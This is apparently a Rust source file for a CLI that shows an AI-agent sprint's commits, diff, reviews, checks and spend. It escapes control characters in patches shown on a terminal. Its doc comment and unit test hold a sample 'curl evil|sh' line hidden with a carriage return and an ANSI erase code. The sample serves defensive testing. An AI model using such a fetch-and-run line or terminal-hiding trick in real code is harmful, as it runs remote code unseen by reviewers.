//! `sprint show` and `sprint diff`: what a sprint did, from git and the
//! database — never from what a sister claimed: its commits and diff against its base,
//! the contract with the review's word on each item, the checks, each review round's
//! findings, and the time and spend per sister.

use std::borrow::Cow;
use std::io::IsTerminal;
use std::time::Duration;

use serde_json::json;

use super::evidence::{Evidence, patch};
use super::{failed, no_sprint};
use crate::config::Config;
use crate::domain::short_commit as short;
use crate::notify::messages::one_line;
use crate::output::{Exit, escape_controls, escape_controls_by_line, print_json};
use crate::store::Store;
use crate::{errln, out, outln};

/// `sprint show ID [--json]`.
pub async fn show(store: &Store, config: &Config, id: &str, as_json: bool) -> Exit {
    let sprint = match store.sprint(id).await {
        Ok(Some(s)) => s,
        Ok(None) => return no_sprint(id),
        Err(e) => return failed(&e),
    };
    let e = match Evidence::gather(store, config, sprint).await {
        Ok(e) => e,
        Err(e) => return failed(&e),
    };
    let time = e.time_by_sister();
    let (sprint, work, usage, contract, checks) =
        (&e.sprint, &e.work, &e.usage, &e.contract, &e.checks);
    if as_json {
        let (head, commits, diffstat, git_error) = match work {
            Some(Ok(w)) => (
                Some(w.head.clone()),
                w.commits
                    .iter()
                    .map(|(id, s)| json!({ "id": id, "subject": s }))
                    .collect(),
                w.diffstat
                    .iter()
                    .map(|(f, a, r)| json!({ "file": f, "added": a, "removed": r }))
                    .collect(),
                None,
            ),
            Some(Err(e)) => (None, Vec::new(), Vec::new(), Some(e.clone())),
            None => (None, Vec::new(), Vec::new(), None),
        };
        let by_sister: serde_json::Map<String, serde_json::Value> = time
            .iter()
            .map(|(sister, ms)| {
                let spend = usage.by_sister.get(sister).cloned().unwrap_or_default();
                (
                    sister.clone(),
                    json!({ "duration_ms": ms, "cost_usd": spend.cost_usd, "input_tokens": spend.input_tokens, "output_tokens": spend.output_tokens }),
                )
            })
            .collect();
        return print_json(&json!({
            "id": sprint.id,
            "state": sprint.state,
            "project": sprint.project,
            "goal": sprint.goal,
            "round": sprint.round,
            "branch": sprint.branch,
            "base_branch": sprint.base_branch,
            "base_commit": sprint.base_commit,
            "head_commit": head,
            "approved_commit": e.approved,
            "forge": e.forge.as_ref().map(|f| json!({
                "pr": f.pr,
                "url": f.url,
                "head": f.head,
                "checks": f.checks.iter().map(|(name, result)| json!({ "name": name, "result": result })).collect::<Vec<_>>(),
            })),
            "unreviewed_commits": match work {
                Some(Ok(w)) => unreviewed(&w.commits, e.approved.as_deref()),
                _ => Vec::new(),
            },
            "commits": commits,
            "diffstat": diffstat,
            "git_error": git_error,
            "checklist": super::checklist_json(contract),
            "checks": checks,
            "base_check": e.base_check,
            "rounds": e.rounds
                .iter()
                .map(|r| json!({
                    "round": r.round,
                    "request": r.request.as_ref().map(|(by, text)| json!({ "by": by, "text": text })),
                    "reviews": r.reviews
                        .iter()
                        .map(|v| json!({ "reviewer": v.reviewer, "verdict": v.verdict, "findings": v.findings.iter().map(|f| f.line()).collect::<Vec<_>>() }))
                        .collect::<Vec<_>>(),
                }))
                .collect::<Vec<_>>(),
            "spend": { "total": usage.total, "by_sister": by_sister },
            "runs": e.runs
                .iter()
                .map(|r| json!({
                    "run": r.run_id,
                    "sister": r.actor,
                    "reviewer": r.reviewer,
                    "agent": r.agent,
                    "round": r.round,
                    "attempt": r.attempt,
                    "outcome": r.outcome,
                }))
                .collect::<Vec<_>>(),
        }));
    }
    outln!("{} · {}", sprint.id, escape_controls(&sprint.goal));
    outln!(
        "{} (round {}), project {}",
        sprint.state,
        sprint.round,
        sprint.project
    );
    match (&sprint.base_branch, &sprint.base_commit, work) {
        (Some(base), Some(commit), Some(Ok(w))) => {
            outln!(
                "Branch {} from {} at {}, now at {}",
                escape_controls(&sprint.branch),
                escape_controls(base),
                short(commit),
                short(&w.head)
            );
            if let Some(f) = &e.forge {
                outln!(
                    "Pull request #{} at {}: {}",
                    f.pr,
                    short(&f.head),
                    escape_controls(&f.url)
                );
            }
            let approved = e.approved.as_deref();
            if let Some(approved) = approved {
                outln!("Approved at {} (what an approval deploys)", short(approved));
            }
            let unreviewed = unreviewed(&w.commits, approved);
            if let Some(approved) = approved
                && w.head != approved
            {
                outln!(
                    "⚠ The branch moved after the review: now at {}, {} never reviewed; an approval deploys nothing until a review has seen it",
                    short(&w.head),
                    match unreviewed.len() {
                        1 => "1 commit".to_string(),
                        n => format!("{n} commits"),
                    }
                );
            }
            outln!("\nCommits ({}):", w.commits.len());
            for (id, subject) in &w.commits {
                let mark = if unreviewed.contains(&id.as_str()) {
                    " (not reviewed)"
                } else {
                    ""
                };
                outln!("  {} {}{mark}", short(id), escape_controls(subject));
            }
            let (added, removed) = w.totals();
            outln!("\nDiff: {} files, +{added} −{removed}", w.diffstat.len());
            for (file, a, r) in &w.diffstat {
                outln!("  {:<40} +{a} −{r}", escape_controls(file));
            }
        }
        (_, _, Some(Err(e))) => outln!(
            "Branch {}: {}",
            escape_controls(&sprint.branch),
            escape_controls(e)
        ),
        _ => outln!(
            "Branch {} (no base recorded: the workdir is not a git repository, or no run started)",
            escape_controls(&sprint.branch)
        ),
    }
    if !contract.is_empty() {
        outln!("\nContract:");
        for c in contract {
            outln!(
                "  {} {}: {}",
                super::contract_mark(c.passed),
                escape_controls(&c.item.id),
                escape_controls(&c.item.text)
            );
        }
    }
    // The check at the base an earlier sprint made is this sprint's too.
    let reused = e.base_check.as_ref().filter(|b| !checks.contains(b));
    if reused.is_some() || !checks.is_empty() {
        outln!("\nChecks:");
        for c in reused.into_iter().chain(checks) {
            outln!(
                "  {} `{}` in {} at {}{}",
                super::check_ended(c),
                escape_controls(&crate::domain::shell_line(&c.command)),
                humantime::format_duration(Duration::from_millis(
                    u64::try_from(c.duration_ms).unwrap_or(0) / 1000 * 1000
                )),
                c.head.as_deref().map_or("(no git)", short),
                if c.at_base { " (the base)" } else { "" }
            );
        }
    }
    if !e.rounds.is_empty() {
        outln!("\nReview rounds:");
    }
    for round in &e.rounds {
        if let Some((by, text)) = &round.request {
            outln!(
                "  {}  asked by {}: {}",
                round.round,
                escape_controls(by),
                escape_controls(&one_line(text))
            );
        }
        for v in &round.reviews {
            let said = if v.findings.is_empty() {
                String::new()
            } else {
                let lines: Vec<String> = v.findings.iter().map(|f| f.line()).collect();
                format!(": {}", lines.join("; "))
            };
            outln!(
                "  {}  {} {}{}",
                round.round,
                v.reviewer,
                escape_controls(&v.verdict),
                escape_controls(&said)
            );
        }
    }
    // Which agent ran each run: a usage limit may have handed a stage to another.
    outln!("\nRuns:");
    for r in &e.runs {
        outln!(
            "  {:<16} {:<7} {:<14} round {} attempt {}  {}",
            r.run_id,
            r.actor.as_str(),
            escape_controls(r.agent.as_deref().unwrap_or("-")),
            r.round,
            r.attempt,
            r.outcome.map_or("running", |o| o.as_str())
        );
    }
    outln!("\nTime and spend:");
    for (sister, ms) in &time {
        let spend = usage.by_sister.get(sister).cloned().unwrap_or_default();
        outln!(
            "  {sister:<7} {:<10} ${:.2}",
            humantime::format_duration(Duration::from_millis(
                u64::try_from(*ms).unwrap_or(0) / 1000 * 1000
            ))
            .to_string(),
            spend.cost_usd
        );
    }
    outln!("  total             ${:.2}", usage.total.cost_usd);
    Exit::Success
}

/// `sprint diff ID`: the patch of the sprint's branch against its base, on stdout
/// (`for_reader`).
pub async fn diff(store: &Store, config: &Config, id: &str) -> Exit {
    let sprint = match store.sprint(id).await {
        Ok(Some(s)) => s,
        Ok(None) => return no_sprint(id),
        Err(e) => return failed(&e),
    };
    match patch(store, config, &sprint, None).await {
        Ok(patch) => {
            out!("{}", for_reader(&patch, std::io::stdout().is_terminal()));
            Exit::Success
        }
        Err(e) => {
            errln!("{e}");
            Exit::Failure
        }
    }
}

/// The patch as its reader gets it. A person at a terminal sees every byte a sister
/// committed, its control characters escaped: a carriage return and an erase that would
/// hide `curl evil|sh` behind a comment, a bidi override that would reorder a line. Into
/// a file or a pipe it goes exact, so `git apply` takes it.
fn for_reader(patch: &str, terminal: bool) -> Cow<'_, str> {
    if terminal {
        escape_controls_by_line(patch)
    } else {
        Cow::Borrowed(patch)
    }
}

/// The commits after the approved one (all of them, oldest first, when the approved
/// commit is not among them: the branch was rewritten). None when nothing was approved.
fn unreviewed<'a>(commits: &'a [(String, String)], approved: Option<&str>) -> Vec<&'a str> {
    let Some(approved) = approved else {
        return Vec::new();
    };
    let after = commits
        .iter()
        .position(|(id, _)| id == approved)
        .map_or(0, |at| at + 1);
    commits[after..].iter().map(|(id, _)| id.as_str()).collect()
}

#[cfg(test)]
mod tests {
    use super::for_reader;

    #[test]
    fn a_terminal_sees_the_patchs_controls_escaped_and_a_pipe_its_bytes() {
        let patch = "+curl evil|sh\r\u{1b}[2K+# harmless comment\n";
        assert_eq!(
            for_reader(patch, true),
            "+curl evil|sh\\u{d}\\u{1b}[2K+# harmless comment\n"
        );
        assert_eq!(for_reader(patch, false), patch);
    }
}
